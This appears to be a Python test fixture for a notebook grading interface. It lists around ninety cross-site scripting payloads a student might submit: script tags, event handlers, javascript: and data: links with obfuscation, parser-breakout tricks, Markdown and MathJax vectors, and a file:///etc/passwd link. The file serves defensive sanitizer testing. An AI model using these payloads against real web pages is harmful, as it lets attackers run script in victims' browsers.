"""What a student could write to run script on the teacher's screen.

Each sets `window.pwned`, asks another place, or breaks out of where it stands.
"""

RUN = "window.pwned=1"
CODES = "".join(f"&#{ord(c)};" for c in "javascript:")
HEX = "".join(f"&#x{ord(c):X}" for c in "javascript")
ELSEWHERE = "http://elsewhere.invalid/"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script with a source": f"<script src='{ELSEWHERE}x.js'></script>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script after text": f"Hello\n\n<b>x</b><script>\n\n{RUN}\n\n</script>",
    "script in a list": f"- a\n- <script>{RUN}</script>",
    "script in a table": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "script in a heading": f"# <script>{RUN}</script>",
    "image, onerror": f"<img src=x onerror='{RUN}'>",
    "image, slashes": f"<p><img/src='x'/onerror='{RUN}'></p>",
    "image, half a tag": f'<p><img src=x onerror="{RUN}"//\n>',
    "image, quotes": f'<img src="x` `<script>{RUN}</script>"` `>',
    "image, three quotes": f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    "image from elsewhere": f"![]({ELSEWHERE}pixel.png)",
    "image set": f"<img srcset='{ELSEWHERE}pixel.png 1x'>",
    "svg, onload": f"<svg onload='{RUN}'></svg>",
    "svg, script": f"<svg><script>{RUN}</script></svg>",
    "svg, animate": f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "svg, use": "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'></use></svg>",
    "svg, style": f"<svg></p><style><a title='</style><img src onerror={RUN}>'></svg>",
    "math, style": "<math><mtext><table><mglyph><style><!--</style><img title='-->"
    f"&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    "math, link": f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    "math, annotation": "<math><annotation-xml encoding='text/html'>"
    f"<img src=x onerror={RUN}></annotation-xml></math>",
    "math, action": f"<math><maction actiontype='statusline' onclick='{RUN}'><mi>x</mi>"
    "</maction></math>",
    "body, onload": f"<body onload='{RUN}'>",
    "details, ontoggle": f"<details open ontoggle='{RUN}'>x</details>",
    "input, onfocus": f"<input autofocus onfocus='{RUN}'>",
    "video, onerror": f"<video><source onerror='{RUN}'></video>",
    "marquee, onstart": f"<marquee onstart='{RUN}'>x</marquee>",
    "style, onanimation": "<style>@keyframes k{}</style>"
    f"<b style='animation:k 1s' onanimationend='{RUN}'>x</b>",
    "pointer over text": f"<h1 onpointerenter='{RUN}' onmouseover='{RUN}'>over</h1>",
    "link, javascript": f"<a href='javascript:{RUN}'>click</a>",
    "link, capitals": f"<a href='JaVaScRiPt:{RUN}'>click</a>",
    "link, entities": f"<a href='{CODES}{RUN}'>click</a>",
    "link, hexadecimal": f"<a href='{HEX}&#58{RUN}'>click</a>",
    "link, tab": f"<a href='java&#x09;script:{RUN}'>click</a>",
    "link, line": f"<a href='java\nscript:{RUN}'>click</a>",
    "link, control character": f"<a href=' &#14; javascript:{RUN}'>click</a>",
    "link, colon by name": f"<a href='javascript&colon;{RUN}'>click</a>",
    "link, vbscript": f"<a href='vbscript:{RUN}'>click</a>",
    "link, data": f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    "link, relative": "<a href='/formgrader/manage_students'>click</a>",
    "link to a file": "<a href='file:///etc/passwd'>click</a>",
    "link with an id": "<a id='submission_id' name='base_url' href='https://a.b'>x</a>",
    "iframe, source": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "iframe, document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "embed": f"<embed src='data:image/svg+xml,<svg onload={RUN}></svg>'>",
    "base": f"<base href='{ELSEWHERE}'>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={ELSEWHERE}'>",
    "refresh to script": "<meta http-equiv='refresh' content="
    f"'0;url=data:text/html,<script>{RUN}</script>'>",
    "style sheet": f"<link rel='stylesheet' href='{ELSEWHERE}x.css'>",
    "style": f"<style>body{{background:url({ELSEWHERE}x)}}</style>",
    "style, import": f"<style>@import '{ELSEWHERE}x.css';</style>",
    "style, over everything": "<div style='position:fixed;inset:0;z-index:999'>x</div>",
    "form": f"<form action='{ELSEWHERE}'><input name=a><button>Save</button></form>",
    "form, button": f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "points": "<input class='score tabbable' id='logistic-derivation' value='2'>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "template, shadow": "<template shadowrootmode=open>"
    f"<img src=x onerror={RUN}></template>",
    "noscript": f"<noscript><p title='</noscript><img src onerror={RUN}>'></noscript>",
    "text area": f"<textarea></textarea><img src=x onerror={RUN}>",
    "title": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    "plain text": "<plaintext>",
    "select": f"<select><style></select><img src=x onerror={RUN}></style></select>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment, bang": f"<!-- --!><img src=x onerror={RUN}> -->",
    "comment, in a quote": f"<p title='<!--'><img src=x onerror={RUN}></p>",
    "instruction": f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    "section": f"<p><![CDATA[><img src=x onerror={RUN}>]]></p>",
    "out of the frame": f"</div></div></section></main><script>{RUN}</script>",
    "out of a list": f"<li><div><section><li>x</section></div><img src onerror={RUN}>",
    "out of a paragraph": f"</p><p onclick={RUN}>click</p>",
    "alternative text": f'!["onerror={RUN} x="](x.png \'" onerror="{RUN}\')',
    "title of a picture": f"![x](x.png '\"><script>{RUN}</script>')",
    "link title": f'[x](https://a.b \'" onmouseover="{RUN}" a="<script>\')'
    f"<script>{RUN}</script>",
    "Markdown link": f"[click](javascript:{RUN})",
    "Markdown link, entities": f"[click](javascript&#58;{RUN})",
    "Markdown link, space": f"[click](<java script:{RUN}>)",
    "Markdown link, data": "[click](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)",
    "reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "image in a link": f"[![x](x 'a\"b')](javascript:{RUN})",
    "mermaid": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "code, closed": f"`</code><script>{RUN}</script>`<script>{RUN}</script>",
    "formula": f"$x$ <script>{RUN}</script> $y$",
    "formula, element": f"$\\text{{<b>}}$<img src=x onerror='{RUN}'>",
    "formula, link": f"$\\href{{javascript:{RUN}}}{{click}}$",
    "formula, class": "$\\class{score}{x}\\cssId{submission_id}{y}\\style{inset:0}{z}$",
    "formula in a link": f"[x]($a$javascript:{RUN})",
    "formula over a tag": f"<a title='$'><b title='$' onclick={RUN}>click</b></a>",
    "frame of our own": '<div class="student tex2jax_ignore mathjax_ignore">'
    f"<img src=x onerror={RUN}></div>",
    "two frames": '<div class="student tex2jax_ignore mathjax_ignore"></div>'
    f"<script>{RUN}</script><div></div>",
}
# What only MathJax would act upon; it comes from a network, which tests have not
FOR_MATHJAX = {"formula, class", "formula, link"}
